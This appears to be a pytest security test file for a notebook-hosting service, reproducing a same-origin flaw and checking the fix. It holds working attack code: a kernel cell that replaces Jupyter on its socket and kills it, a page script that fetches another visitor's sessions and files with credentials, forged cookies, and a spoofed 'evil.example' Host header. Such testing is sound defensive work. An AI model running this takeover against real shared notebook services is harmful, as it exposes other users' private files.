"""A session that takes over its own server, against another visitor (issue #8, finding 4).

`binder-lite serve` runs for real (local runtime, sandboxed), logins off.  The
attacker launches a repository and, from its kernel, replaces its own Jupyter: a
process it leaves behind binds a server of its own on the session's socket (inside the
sandbox, /run/binder-lite/jupyter.sock), then kills Jupyter.  That server answers
every path with a page whose script fetches the service's /sessions and the victim's
session files, and writes what it read into the page's title.  The victim, in real
headless Chromium with a session of their own, opens the attacker's link (with logins
off the attacker hands out `?token=`).

On one origin for everything the page reads the victim's sessions and files: the
test asserts that, to prove it sees the attack.  With `binder.session_domain` (here
`sessions.localhost`, which Chromium resolves to loopback) the page runs at the
attacker's own origin and reads nothing.
"""

from __future__ import annotations

import http.client
import json
import secrets
import time
import urllib.parse
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from launchkit import execute, make_repo
from test_web import build_path, session_id, write_site
from tornado.web import create_signed_value
from webkit import Client, Server, headless_chromium, wait_for

DOMAIN = "sessions.localhost"

# What the attacker's server answers, to every request: a page that reports what its
# script could read, and cookies a session must not be able to set.
PAGE = r"""<!DOCTYPE html><html><head><title>attack-page</title></head><body><script>
(async function () {
  var q = new URLSearchParams(location.search), out = {};
  async function grab(name, url) {
    try {
      var r = await fetch(url, {credentials: "include"});
      out[name] = r.status + ":" + (await r.text()).slice(0, 4000);
    } catch (e) { out[name] = "error:" + e; }
  }
  await grab("sessions", q.get("service") + "/sessions");
  await grab("files", q.get("files"));
  document.title = "done:" + JSON.stringify(out);
})();
</script></body></html>"""

SERVER = r"""
import http.server, os, signal, socket, socketserver, sys, time
PAGE = PAGE_BYTES
PATH = "/run/binder-lite/jupyter.sock"

class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Set-Cookie", "binder-lite-user=forged; Path=/")
        self.send_header("Set-Cookie", "planted=1; Path=/")
        self.send_header("Set-Cookie", "wide=1; Domain=localhost; Path=/s/" + SID + "/")
        self.send_header("Set-Cookie", "_xsrf=kept; Path=/s/" + SID + "/")
        self.send_header("Content-Length", str(len(PAGE)))
        self.end_headers()
        self.wfile.write(PAGE)
    def log_message(self, *args):
        pass
    def address_string(self):
        return "front"

class Server(socketserver.ThreadingMixIn, socketserver.UnixStreamServer):
    daemon_threads = True

os.unlink(PATH)
server = Server(PATH, Handler)
# Jupyter goes, and with it every connection the front keeps to it, once the cell's
# answer is out: the test leaves ANSWERED in the checkout when it has it.
deadline = time.monotonic() + 120
while not os.path.exists("/notebooks/ANSWERED") and time.monotonic() < deadline:
    time.sleep(0.05)
os.kill(int(sys.argv[1]), signal.SIGKILL)
server.serve_forever()
"""

TAKEOVER = r"""
import os, subprocess, sys
# Its parent is Jupyter, which the server kills once it has taken the socket.
subprocess.Popen([sys.executable, "-c", CODE, str(os.getppid())], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"taken"
"""


@dataclass
class Launched:
    id: str
    token: str
    client: Client


def start(tmp: Path, session_domain: bool) -> Server:
    extra = "  session_network: none\n"
    if session_domain:
        extra += f"  session_domain: {DOMAIN}\n"
    return Server(write_site(tmp, extra=extra), tmp / "state", ("--allow-local-repos",)).start()


@pytest.fixture
def shared_origin(tmp_path: Path) -> Iterator[Server]:
    server = start(tmp_path, session_domain=False)
    yield server
    server.stop()


@pytest.fixture
def own_origins(tmp_path: Path) -> Iterator[Server]:
    server = start(tmp_path, session_domain=True)
    yield server
    server.stop()


@pytest.fixture
def chromium() -> Iterator[object]:
    with headless_chromium() as driver:
        yield driver


def launch(server: Server, repo: Path) -> Launched:
    client = Client(server.url)
    events = client.events(build_path(f"file://{repo}"))
    assert events[-1]["phase"] == "ready", events[-1]
    return Launched(session_id(events[-1]), str(events[-1]["token"]), client)


def session_host(server: Server, sid: str, domain: bool) -> str:
    return f"{sid}.{DOMAIN}:{server.port}" if domain else f"127.0.0.1:{server.port}"


def request(
    server: Server,
    host: str,
    target: str,
    headers: dict[str, str] | None = None,
    method: str = "GET",
) -> tuple[int, http.client.HTTPMessage, bytes]:
    """One request to the service's port as a browser would send it to `host` (names
    under sessions.localhost are loopback for Chromium, not for this process)."""
    conn = http.client.HTTPConnection("127.0.0.1", server.port, timeout=30)
    try:
        conn.putrequest(method, target, skip_host=True)
        for name, value in {"Host": host, **(headers or {})}.items():
            conn.putheader(name, value)
        conn.endheaders()
        response = conn.getresponse()
        return response.status, response.headers, response.read()
    finally:
        conn.close()


def take_over(server: Server, attacker: Launched, domain: bool) -> None:
    """The attacker's kernel replaces its Jupyter with a server of its own."""
    host = session_host(server, attacker.id, domain)
    code = SERVER.replace("PAGE_BYTES", repr(PAGE.encode())).replace("SID", repr(attacker.id))
    cell = TAKEOVER.replace("CODE", repr(code))
    headers = {"Host": host, "Origin": f"http://{host}"}
    base = f"http://127.0.0.1:{server.port}/s/{attacker.id}/"
    assert execute(base, attacker.token, cell, headers) == "'taken'"
    (Path(server.session_field(attacker.id, "session_dir")) / "repo" / "ANSWERED").touch()
    token = {"Authorization": f"token {attacker.token}"}
    wait_for(
        lambda: b"attack-page" in request(server, host, f"/s/{attacker.id}/x", token)[2],
        30,
        "the attacker's server to answer for its session",
    )


def cookies_passed_on(server: Server, attacker: Launched, domain: bool) -> list[str]:
    host = session_host(server, attacker.id, domain)
    _, headers, _ = request(
        server, host, f"/s/{attacker.id}/", {"Authorization": f"token {attacker.token}"}
    )
    return headers.get_all("Set-Cookie") or []


def victim_opens_own_session(driver: object, server: Server, repo: Path) -> str:
    """The victim launches their repository through the /v2 link page and is taken to
    the running notebook; the session's id."""
    spec = urllib.parse.quote(f"file://{repo}", safe="")
    driver.get(f"{server.url}/v2/git/{spec}/HEAD")  # type: ignore[attr-defined]
    url = wait_for(
        lambda: "/s/" in driver.current_url and driver.current_url,  # type: ignore[attr-defined]
        120,
        "the victim's notebook",
    )
    sid = session_id({"url": url})
    return sid


def attack(
    driver: object, server: Server, attacker: Launched, files: str, domain: bool
) -> dict[str, str]:
    """The victim opens the attacker's link; what the attacker's page read."""
    host = session_host(server, attacker.id, domain)
    query = urllib.parse.urlencode({"token": attacker.token, "service": server.url, "files": files})
    driver.get(f"http://{host}/s/{attacker.id}/?{query}")  # type: ignore[attr-defined]
    title = wait_for(
        lambda: driver.title.startswith("done:") and driver.title,  # type: ignore[attr-defined]
        60,
        "the attacker's page to report",
    )
    return json.loads(str(title)[5:])  # type: ignore[no-any-return]


def test_on_a_shared_origin_a_taken_over_session_reads_another_visitors_sessions(
    shared_origin: Server, chromium: object, tmp_path: Path
) -> None:
    server, marker = shared_origin, secrets.token_hex(12)
    repo = make_repo(tmp_path / "victim", {"diary.txt": marker})
    victim = victim_opens_own_session(chromium, server, repo)
    attacker = launch(server, make_repo(tmp_path / "attacker"))
    take_over(server, attacker, domain=False)
    # The session could not set cookies for the service, even on its shared origin.
    cookies = cookies_passed_on(server, attacker, domain=False)
    assert cookies == [f"_xsrf=kept; Path=/s/{attacker.id}/"], cookies
    seen = attack(
        chromium, server, attacker, f"{server.url}/s/{victim}/api/contents/diary.txt", domain=False
    )
    # Finding 4, as it still stands without session_domain: the page is the service's
    # origin, so it reads the victim's /sessions and their session's files.
    assert seen["sessions"].startswith("200:") and victim in seen["sessions"], seen
    assert seen["files"].startswith("200:") and marker in seen["files"], seen


def test_with_session_origins_a_taken_over_session_reads_nothing_of_another_visitor(
    own_origins: Server, chromium: object, tmp_path: Path
) -> None:
    server, marker = own_origins, secrets.token_hex(12)
    repo = make_repo(tmp_path / "victim", {"diary.txt": marker})
    victim = victim_opens_own_session(chromium, server, repo)
    # The launch page sent the victim to their session's own origin, and they are in.
    assert chromium.current_url.startswith(f"http://{victim}.{DOMAIN}:{server.port}/s/{victim}/")  # type: ignore[attr-defined]
    files = f"http://{victim}.{DOMAIN}:{server.port}/s/{victim}/api/contents/diary.txt"
    chromium.get(files)  # type: ignore[attr-defined]
    assert marker in chromium.page_source  # type: ignore[attr-defined]
    attacker = launch(server, make_repo(tmp_path / "attacker"))
    take_over(server, attacker, domain=True)
    cookies = cookies_passed_on(server, attacker, domain=True)
    assert cookies == [f"_xsrf=kept; Path=/s/{attacker.id}/"], cookies
    seen = attack(chromium, server, attacker, files, domain=True)
    assert chromium.current_url.startswith(f"http://{attacker.id}.{DOMAIN}:")  # type: ignore[attr-defined]
    assert not seen["sessions"].startswith("200:") and victim not in seen["sessions"], seen
    assert not seen["files"].startswith("200:") and marker not in seen["files"], seen
    # The victim's own way in still works, and links on the service's pages
    # (/s/<id>/… on its host) lead them there with a fresh handoff.
    chromium.get(f"{server.url}/s/{victim}/api/contents/diary.txt")  # type: ignore[attr-defined]
    assert chromium.current_url == files  # type: ignore[attr-defined]
    assert marker in chromium.page_source  # type: ignore[attr-defined]


# -- the handoff, the cookies, the URLs: without a browser -----------------------------


def test_a_handoff_is_single_use_bound_to_its_session_and_short_lived(
    own_origins: Server, tmp_path: Path
) -> None:
    server = own_origins
    mine = launch(server, make_repo(tmp_path / "mine"))
    other = launch(server, make_repo(tmp_path / "other"))
    mine_host = session_host(server, mine.id, domain=True)
    # On the service's host, /s/<id>/ sends the owner on with a fresh handoff.
    status, headers, _ = request(
        server,
        f"127.0.0.1:{server.port}",
        f"/s/{mine.id}/api/status",
        {"Cookie": cookie_header(mine.client)},
    )
    assert status == 302
    location = urllib.parse.urlsplit(headers["Location"])
    assert location.netloc == mine_host and location.path == f"/s/{mine.id}/api/status"
    handoff = urllib.parse.parse_qs(location.query)["binder-lite-handoff"][0]
    target = f"/s/{mine.id}/api/status?binder-lite-handoff={urllib.parse.quote(handoff)}"
    # Not at another session's origin, even one of the same owner's.
    other_host = session_host(server, other.id, domain=True)
    assert request(server, other_host, target.replace(mine.id, other.id))[0] == 403
    # At its own: a host-only, HttpOnly, SameSite=Lax cookie, and the handoff leaves the URL.
    status, headers, _ = request(server, mine_host, target)
    assert status == 303 and headers["Location"] == f"/s/{mine.id}/api/status"
    cookie = headers["Set-Cookie"]
    assert "HttpOnly" in cookie and "SameSite=Lax" in cookie and "Domain" not in cookie
    jar = {"Cookie": cookie.split(";")[0]}
    assert request(server, mine_host, f"/s/{mine.id}/api/status", jar)[0] == 200
    # That cookie is good at its own origin only.
    assert request(server, other_host, f"/s/{other.id}/api/status", jar)[0] == 404
    # Once only.
    assert request(server, mine_host, target)[0] == 403
    # An hour-old handoff, signed with the service's own secret, is refused.
    secret = (server.state_dir / "cookie-secret").read_text().strip()
    claim = json.dumps([mine.id, server.session_field(mine.id, "owner"), "n0"])
    old = create_signed_value(
        secret, "binder-lite-handoff", claim, clock=lambda: time.time() - 3600
    ).decode()
    stale = f"/s/{mine.id}/?binder-lite-handoff={urllib.parse.quote(old)}"
    assert request(server, mine_host, stale)[0] == 403
    # Someone else's cookie on the service's host gets a redirect without a handoff.
    status, headers, _ = request(
        server,
        f"127.0.0.1:{server.port}",
        f"/s/{mine.id}/",
        {"Cookie": cookie_header(other.client)},
    )
    assert status == 302 and "binder-lite-handoff" not in headers["Location"]
    # BinderHub's token still works at the session's origin, from a script as from a page.
    auth = {"Authorization": f"token {mine.token}"}
    assert request(server, mine_host, f"/s/{mine.id}/api/status", auth)[0] == 200
    status, headers, _ = request(
        server, mine_host, f"/s/{mine.id}/lab?token={mine.token}", {"Sec-Fetch-Dest": "document"}
    )
    assert status == 303 and headers["Location"] == f"/s/{mine.id}/lab"
    # A request from a sibling origin is refused before Jupyter sees it.
    sibling = {"Origin": f"http://{other_host}", **jar}
    assert request(server, mine_host, f"/s/{mine.id}/api/contents", sibling, "POST")[0] == 403


def cookie_header(client: Client) -> str:
    return "; ".join(f"{c.name}={c.value}" for c in client.jar)


def test_session_urls_come_from_the_settings_not_the_host_header(
    own_origins: Server, tmp_path: Path
) -> None:
    server = own_origins
    client = Client(server.url)
    repo = make_repo(tmp_path / "repo")
    events = client.events(build_path(f"file://{repo}"))  # Host: 127.0.0.1:port
    sid = session_id(events[-1])
    assert events[-1]["url"] == f"http://{sid}.{DOMAIN}:{server.port}/s/{sid}/"
    assert "binder-lite-handoff=" in str(events[-1]["view"])
    status, headers, body = request(server, "evil.example", build_path(f"file://{repo}"))
    ready = [
        json.loads(line[6:]) for line in body.decode().splitlines() if line.startswith("data: ")
    ][-1]
    assert status == 200 and "evil.example" not in json.dumps(ready), ready
    # The service's own cookies are host-only; its pages keep other windows away.
    status, headers, _ = request(server, f"127.0.0.1:{server.port}", "/")
    cookies = headers.get_all("Set-Cookie") or []
    assert any(c.startswith("binder-lite-user=") for c in cookies), cookies
    assert all("domain=" not in c.lower() for c in cookies), cookies
    assert headers["Cross-Origin-Opener-Policy"] == "same-origin"
    assert "frame-ancestors 'none'" in headers["Content-Security-Policy"]
    # Without session_domain the ready URL names the configured address all the same.
    (tmp_path / "shared").mkdir()
    shared = start(tmp_path / "shared", session_domain=False)
    try:
        _, _, body = request(shared, "evil.example", build_path(f"file://{repo}"))
        ready = [
            json.loads(line[6:]) for line in body.decode().splitlines() if line.startswith("data: ")
        ][-1]
        assert str(ready["url"]).startswith(f"{shared.url}/s/"), ready
    finally:
        shared.stop()
